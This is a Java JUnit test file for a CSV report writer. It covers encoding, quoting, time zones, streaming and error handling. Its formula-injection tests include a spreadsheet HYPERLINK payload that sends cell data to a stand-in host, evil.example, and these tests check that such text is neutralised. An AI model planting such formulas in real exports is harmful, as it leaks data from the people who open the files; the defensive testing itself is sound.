package io.sharehub.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sharehub.InvalidInputException;
import io.sharehub.UnknownCampaignException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.function.Consumer;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvReportWriterTest {
    static final ZoneId SHANGHAI = ZoneId.of("Asia/Shanghai");

    static final List<Column> PROMOTERS = List.of(
            Column.of("campaign", "活动", ColumnType.TEXT),
            Column.of("points", "积分", ColumnType.INTEGER),
            Column.of("rate", "转化率", ColumnType.DECIMAL),
            Column.of("reachedAt", "达成时间", ColumnType.INSTANT),
            Column.of("day", "日期", ColumnType.DATE),
            Column.of("flagged", "已标记", ColumnType.BOOLEAN));

    static byte[] write(ReportWriter writer, Report report) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.write(report, out);
        return out.toByteArray();
    }

    /** Reads a CSV back with Commons CSV, after checking and removing the byte order mark. */
    static List<CSVRecord> read(byte[] csv) {
        assertThat(Arrays.copyOf(csv, 3)).as("UTF-8 byte order mark").containsExactly(0xEF, 0xBB, 0xBF);
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        try (CSVParser parser = CSVFormat.RFC4180.parse(new StringReader(text))) {
            return parser.getRecords();
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    static Report textReport(String... titles) {
        List<List<?>> rows = new ArrayList<>();
        for (String title : titles) {
            rows.add(Arrays.asList(title));
        }
        return Report.of("活动", SHANGHAI, List.of(Column.of("title", "标题", ColumnType.TEXT)), rows);
    }

    @Nested
    @DisplayName("formula injection")
    class FormulaInjection {
        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {
            "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"领取奖励\")",
            "@SUM(1,1)",
            "+86 138 0000 0000",
            "-10%优惠",
            "\t=1+1",
            "＝1+1",
            "＋1", "－1", "＠SUM(1)",
            "\r=1+1"})
        @DisplayName("text that a spreadsheet could run comes back with a leading apostrophe")
        void formulaLookingTextIsPrefixed(String title) {
            List<CSVRecord> records = read(write(CsvReportWriter.create(), textReport(title)));

            assertThat(records).hasSize(2);
            assertThat(records.get(1).get(0)).isEqualTo("'" + title);
        }

        @Test
        @DisplayName("ordinary text, and formula characters after the first, stay as they are")
        void ordinaryTextIsNotPrefixed() {
            List<CSVRecord> records = read(write(CsvReportWriter.create(),
                    textReport("双十一 -10%", "a=b", " =1", "'quoted", "")));

            assertThat(records.subList(1, 6)).extracting(r -> r.get(0))
                    .containsExactly("双十一 -10%", "a=b", " =1", "'quoted", "");
        }

        @Test
        @DisplayName("numbers are never prefixed: points −5 stays -5")
        void negativeNumbersStayNumbers() {
            Report report = Report.of("积分", SHANGHAI, List.of(Column.of("points", "积分", ColumnType.INTEGER),
                    Column.of("rate", "比例", ColumnType.DECIMAL)),
                    List.of(List.of(-5L, new BigDecimal("-0.50")), List.of(Long.MIN_VALUE, new BigDecimal("1E+3"))));

            List<CSVRecord> records = read(write(CsvReportWriter.create(), report));

            assertThat(records.get(1).values()).containsExactly("-5", "-0.50");
            assertThat(records.get(2).values()).containsExactly("-9223372036854775808", "1000");
        }

        @Test
        @DisplayName("headers obey the same rule")
        void headersArePrefixedToo() {
            Report report = Report.of("t", SHANGHAI, List.of(Column.of("k", "=cmd", ColumnType.TEXT)), List.of());

            assertThat(read(write(CsvReportWriter.create(), report)).get(0).get(0)).isEqualTo("'=cmd");
        }
    }

    @Nested
    @DisplayName("format")
    class Format {
        @Test
        @DisplayName("UTF-8 with BOM, CRLF record ends, a header record, then one record per row")
        void bomCrlfAndHeader() {
            Report report = Report.of("推广员", SHANGHAI, PROMOTERS, List.of(
                    List.of("双十一", 10L, new BigDecimal("0.25"), Instant.parse("2024-03-01T01:30:00Z"),
                            LocalDate.of(2024, 3, 1), true)));

            byte[] csv = write(CsvReportWriter.create(), report);

            String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
            assertThat(text).isEqualTo("活动,积分,转化率,达成时间,日期,已标记\r\n"
                    + "双十一,10,0.25,2024-03-01 09:30:00,2024-03-01,TRUE\r\n");
        }

        @Test
        @DisplayName("instants are shown in the report's zone, whatever the JVM's")
        void instantsInReportZone() {
            Instant instant = Instant.parse("2024-12-31T16:00:00Z");
            List<Column> columns = List.of(Column.of("at", "时间", ColumnType.INSTANT));

            assertThat(read(write(CsvReportWriter.create(), Report.of("a", SHANGHAI, columns, List.of(List.of(instant)))))
                    .get(1).get(0)).isEqualTo("2025-01-01 00:00:00");
            assertThat(read(write(CsvReportWriter.create(), Report.of("a", ZoneId.of("UTC"), columns,
                    List.of(List.of(instant))))).get(1).get(0)).isEqualTo("2024-12-31 16:00:00");
        }

        @Test
        @DisplayName("null is an empty field in every column; booleans are TRUE and FALSE")
        void nullsAndBooleans() {
            Report report = Report.of("推广员", SHANGHAI, PROMOTERS, List.of(
                    Arrays.asList(null, null, null, null, null, false),
                    Arrays.asList(null, null, null, null, null, null)));

            List<CSVRecord> records = read(write(CsvReportWriter.create(), report));

            assertThat(records.get(1).values()).containsExactly("", "", "", "", "", "FALSE");
            assertThat(records.get(2).values()).containsExactly("", "", "", "", "", "");
        }

        @Test
        @DisplayName("quotes, commas, CR, LF and CRLF inside cells round-trip")
        void quotingRoundTrips() {
            String[] titles = {"say \"hi\"", "a,b", "line1\nline2", "line1\r\nline2", "cr\rinside", "\"", ",",
                "emoji 🔥 and 𠮷", "ends with \""};

            List<CSVRecord> records = read(write(CsvReportWriter.create(), textReport(titles)));

            assertThat(records.subList(1, records.size())).extracting(r -> r.get(0)).containsExactly(titles);
        }

        @Test
        @DisplayName("extension and content type")
        void extensionAndContentType() {
            assertThat(CsvReportWriter.create().extension()).isEqualTo("csv");
            assertThat(CsvReportWriter.create().contentType()).isEqualTo("text/csv; charset=UTF-8");
        }
    }

    @Nested
    @DisplayName("streaming and progress")
    class Streaming {
        @Test
        @DisplayName("bytes reach the stream while rows are still coming, and the stream is not closed")
        void streamsRows() {
            CountingStream out = new CountingStream();
            long[] bytesWhenHalfDone = {-1};
            Report report = generated(200_000, (i, sink) -> {
                if (i == 100_000) {
                    bytesWhenHalfDone[0] = out.bytes;
                }
                sink.accept(List.of("素材 " + i, i));
            });

            CsvReportWriter.create().write(report, out);

            assertThat(bytesWhenHalfDone[0]).as("bytes written after 100,000 of 200,000 rows")
                    .isGreaterThan(out.bytes / 3);
            assertThat(out.closed).isFalse();
            assertThat(out.flushed).isTrue();
        }

        @Test
        @DisplayName("progress is told every N rows and once at the end with the total")
        void progress() {
            List<Long> told = new ArrayList<>();
            CsvReportWriter writer = CsvReportWriter.builder().progress(told::add).progressEvery(1_000).build();

            writer.write(generated(2_500, (i, sink) -> sink.accept(List.of("m", i))), new CountingStream());
            writer.write(generated(0, (i, sink) -> { }), new CountingStream());
            writer.write(generated(2_000, (i, sink) -> sink.accept(List.of("m", i))), new CountingStream());

            assertThat(told).containsExactly(1_000L, 2_000L, 2_500L, 0L, 1_000L, 2_000L);
        }
    }

    @Nested
    @DisplayName("failures")
    class Failures {
        @Test
        @DisplayName("a row that does not fit its columns is an export error naming the row and column")
        void badRow() {
            Report report = generated(10, (i, sink) -> sink.accept(i == 3 ? List.of("m", "three") : List.of("m", i)));

            assertThatThrownBy(() -> CsvReportWriter.create().write(report, new CountingStream()))
                    .isInstanceOf(ExportException.class)
                    .hasMessageContaining("data row 4")
                    .hasMessageContaining("row.views must be a INTEGER value")
                    .cause().isInstanceOfSatisfying(InvalidInputException.class,
                            e -> assertThat(e.field()).isEqualTo("row.views"));
        }

        @Test
        @DisplayName("a listed report's bad row is the same export error")
        void badListedRow() {
            Report report = Report.of("素材统计", SHANGHAI, List.of(Column.of("views", "浏览量", ColumnType.INTEGER)),
                    List.of(List.of(1L), List.of("2")));

            assertThatThrownBy(() -> CsvReportWriter.create().write(report, new CountingStream()))
                    .isInstanceOf(ExportException.class)
                    .hasMessageContaining("data row 2")
                    .cause().isInstanceOfSatisfying(InvalidInputException.class,
                            e -> assertThat(e.field()).isEqualTo("row.views"));
        }

        @Test
        @DisplayName("a row with the wrong number of values is an export error")
        void wrongWidth() {
            Report report = generated(1, (i, sink) -> sink.accept(List.of("m")));

            assertThatThrownBy(() -> CsvReportWriter.create().write(report, new CountingStream()))
                    .isInstanceOf(ExportException.class)
                    .hasMessageContaining("row must have one value per column (2)");
        }

        @Test
        @DisplayName("a failing stream is an export error keeping the IOException")
        void failingStream() {
            OutputStream broken = new OutputStream() {
                @Override
                public void write(int b) throws IOException {
                    throw new IOException("connection reset");
                }
            };

            assertThatThrownBy(() -> CsvReportWriter.create().write(textReport("a"), broken))
                    .isInstanceOf(ExportException.class)
                    .hasMessageContaining("活动")
                    .hasRootCauseInstanceOf(IOException.class);
        }

        @Test
        @DisplayName("a report failing with a ShareHub error passes it unchanged; any other becomes an export error")
        void failingReport() {
            Report typed = generated(5, (i, sink) -> {
                throw new UnknownCampaignException("campaignId", "C1");
            });
            Report untyped = generated(5, (i, sink) -> {
                throw new IllegalStateException("database gone");
            });

            assertThatThrownBy(() -> CsvReportWriter.create().write(typed, new CountingStream()))
                    .isInstanceOf(UnknownCampaignException.class);
            assertThatThrownBy(() -> CsvReportWriter.create().write(untyped, new CountingStream()))
                    .isInstanceOf(ExportException.class)
                    .hasCauseInstanceOf(IllegalStateException.class);
        }

        @Test
        @DisplayName("a report without title, zone or columns, or no stream, is refused before writing")
        void badReport() {
            Report noZone = new Report() {
                @Override
                public String title() {
                    return "t";
                }

                @Override
                public ZoneId zone() {
                    return null;
                }

                @Override
                public List<Column> columns() {
                    return List.of();
                }

                @Override
                public void forEachRow(Consumer<? super List<Object>> action) {
                }
            };
            CountingStream out = new CountingStream();

            assertThatThrownBy(() -> CsvReportWriter.create().write(noZone, out))
                    .isInstanceOfSatisfying(InvalidInputException.class, e -> assertThat(e.field()).isEqualTo("report.zone"));
            assertThatThrownBy(() -> CsvReportWriter.create().write(textReport("a"), null))
                    .isInstanceOfSatisfying(InvalidInputException.class, e -> assertThat(e.field()).isEqualTo("out"));
            assertThat(out.bytes).isZero();
        }

        @Test
        @DisplayName("the builder refuses a missing listener and a step below 1")
        void builderChecks() {
            assertThatThrownBy(() -> CsvReportWriter.builder().progress(null))
                    .isInstanceOfSatisfying(InvalidInputException.class, e -> assertThat(e.field()).isEqualTo("progress"));
            assertThatThrownBy(() -> CsvReportWriter.builder().progressEvery(0))
                    .isInstanceOfSatisfying(InvalidInputException.class,
                            e -> assertThat(e.field()).isEqualTo("progressEvery"));
        }
    }

    interface RowMaker {
        void make(long index, Consumer<? super List<Object>> sink);
    }

    /** A report of lazily made rows (material, views): nothing is held. */
    static Report generated(long rows, RowMaker maker) {
        List<Column> columns = List.of(Column.of("material", "素材", ColumnType.TEXT),
                Column.of("views", "浏览量", ColumnType.INTEGER));
        return new Report() {
            @Override
            public String title() {
                return "素材统计";
            }

            @Override
            public ZoneId zone() {
                return SHANGHAI;
            }

            @Override
            public List<Column> columns() {
                return columns;
            }

            @Override
            public void forEachRow(Consumer<? super List<Object>> action) {
                for (long i = 0; i < rows; i++) {
                    maker.make(i, action);
                }
            }
        };
    }

    static final class CountingStream extends OutputStream {
        long bytes;
        boolean flushed;
        boolean closed;

        @Override
        public void write(int b) {
            bytes++;
        }

        @Override
        public void write(byte[] b, int off, int len) {
            bytes += len;
        }

        @Override
        public void flush() {
            flushed = true;
        }

        @Override
        public void close() {
            closed = true;
        }
    }
}
